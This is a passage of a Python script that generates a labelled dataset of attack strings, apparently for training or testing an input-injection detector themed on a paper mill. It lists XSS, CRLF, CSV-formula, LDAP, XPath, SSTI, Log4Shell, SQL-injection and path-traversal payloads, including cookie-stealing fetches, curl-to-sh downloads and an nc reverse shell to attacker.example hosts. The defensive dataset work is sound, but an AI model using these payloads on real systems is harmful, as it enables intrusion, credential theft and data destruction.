    "Lena Müller <sales@kaolin-gmbh.example>\nReply-To: sales@attacker.example",
    "Priya%0d%0aTo:%20finance@attacker.example",
)
add("crlf", "crlf-csv-row",
    "Harbour Blue\n10999;1;PM2-OFF-080;600;reel;1020;price=0",
    "R-120;Office 80;BEK 65\r\nR-121;Office 80;admin_override;=cmd|' /C calc'!A0",
    "0871-04;80.2;104;6.7\n0871-05;80.0;105;6.8;RELEASED;signed:QA",
    "Cork\",\"0\"\r\n\"10500\",\"Attacker Ltd\",\"50 t kraft\",\"0.00",
    "note\n2417,QA,override,all reels released",
    "Meridian Cotton,invoice,OK\r\nMeridian Cotton,bank_change,IBAN GB00ATTK00000000000000",
)

# ---------------- ldap-xpath ----------------
add("ldap-xpath", "ldap-injection",
    "*)(uid=*))(|(uid=*",
    "night_shift)(|(password=*))",
    "admin)(&)",
    "*)(objectClass=*",
    "qa_lead)(memberOf=cn=admins,ou=groups,dc=mill,dc=local)(|(cn=*",
    "*))%00",
    "m*)(|(userPassword=a*)",
    "shift*)(|(telephoneNumber=*)",
    "o'connor)(|(description=*secret*))",
    "j.dsouza*)(mail=*@*",
)
add("ldap-xpath", "xpath-injection",
    "shift_b' or '1'='1",
    "reel0871' or 1=1 or 'a'='a",
    "x'] | //user/password | //a['",
    "') or count(//user)>0 or ('",
    "' or substring(//user[1]/pin,1,1)='4' or '",
    "2417\" or name()=\"batch\" or \"",
    "'] | /*[1] | //*['",
    "admin' or string-length(//user[login='admin']/password)>5 or 'x'='y",
    "QA' and doc('http://attacker.example/x')//a or '",
    "' or contains(//supplier/iban,'GB') or '",
)

# -------- generated (<=10%): pool x theme prefix, and +urlencode --------
PREFIXES = ["Reel 0871-03 note: ", "Handover B: ", "Supplier comment - ", "QA remark ",
            "Order 10488 / ", "Ticket MT-3330: ", "Recipe R-130 ", "Safety SR-0219: "]
XSS_POOL = ["<img src=1 onerror=fetch('//attacker.example/x?'+document.cookie)>",
            "<svg onload=alert(document.domain)>",
            "<iframe src=//attacker.example/phish width=0 height=0></iframe>",
            "<script src=https://attacker.example/k.js></script>",
            "<a href=javascript:void(fetch('//attacker.example/'+localStorage.jwt))>CoA</a>"]
CMDI_POOL = ["; curl -fsSL http://attacker.example/i.sh | sh",
             "$(id>/tmp/o)",
             "| nc 198.51.100.61 4444 -e /bin/bash",
             "`wget -q 203.0.113.12/z -O-|sh`",
             "&& cat /etc/shadow"]
CODE_POOL = ["{{ config.__class__.__init__.__globals__['os'].popen('id').read() }}",
             "${jndi:ldap://attacker.example:1389/mill}",
             "${T(java.lang.Runtime).getRuntime().exec('touch /tmp/p')}",
             "{{ namespace.__init__.__globals__.os.system('id') }}",
             "<%= File.read('/etc/passwd') %>"]
URL_SQLI = ["0871' OR '1'='1'-- -",
            "R-88' UNION SELECT login,pw FROM users--",
            "2417'; DROP TABLE reels;--",
            "x' AND SLEEP(5)#",
            "10488) OR 1=1--",
            "' AND 1=CAST(@@version AS int)--",
            "Hollis' UNION SELECT NULL,table_name FROM information_schema.tables--",
            "kraft' or 'a'='a"]
URL_TRAV = ["../../../../etc/passwd",
            "..\\..\\..\\windows\\win.ini",
            "../../../app/config/secrets.yml",
            "../../../../proc/self/environ",
            "../../../../root/.ssh/authorized_keys"]


def pct_all(s):
    return "".join("%%%02X" % b for b in s.encode("utf-8"))


def combos(cat, cls, pool, n, seen):
    out = []
    pairs = [(p, q) for p in PREFIXES for q in pool]
    rng.shuffle(pairs)
    for p, q in pairs:
        v = p + q
        if v in seen:
            continue
        seen.add(v)
        out.append((cat, cls, v))
        if len(out) == n:
            break
    return out


def main():
    benign = set()
    bp = os.path.join(HERE, "benign.jsonl")
    if os.path.exists(bp):
        with open(bp, encoding="utf-8") as f:
            for line in f:
                benign.add(json.loads(line)["value"])
    seen = set()
    for _, _, v in L:
        assert v not in seen, "dup literal: " + v
        seen.add(v)
    gen = []
    gen += [("sqli", "sqli+urlencode", pct_all(s)) for s in URL_SQLI[:5]]
    gen += [("traversal", "traversal+urlencode", pct_all(s)) for s in URL_TRAV]
    gen += combos("xss", "xss-prefixed", XSS_POOL, 10, seen)
    gen += combos("cmdi", "cmdi-prefixed", CMDI_POOL, 8, seen)
    gen += combos("code", "code-prefixed", CODE_POOL, 2, seen)
    for g in gen:
        assert g[2] not in seen or g[1].endswith("prefixed"), g
        seen.add(g[2])
    order = ["sqli", "xss", "cmdi", "traversal", "ssrf", "code", "nosqli", "crlf", "ldap-xpath"]
    rows = []
    for cat in order:
        rows += [r for r in L if r[0] == cat]
        rows += [r for r in gen if r[0] == cat]
    assert len(gen) <= 0.1 * len(rows), (len(gen), len(rows))
    assert 480 <= len(rows) <= 500, len(rows)
    with open(os.path.join(HERE, "attacks.jsonl"), "w", encoding="utf-8", newline="\n") as f:
        for i, (cat, cls, v) in enumerate(rows, 1):
            assert 1 <= len(v) <= 2000, v
            assert v not in benign, v
            assert not any(ord(c) < 32 and c not in "\n\r\t" for c in v), v
            f.write(json.dumps({"id": "halg-%05d" % i, "category": cat, "class": cls,
                                "label": "attack", "value": v}, ensure_ascii=False) + "\n")


if __name__ == "__main__":
    main()
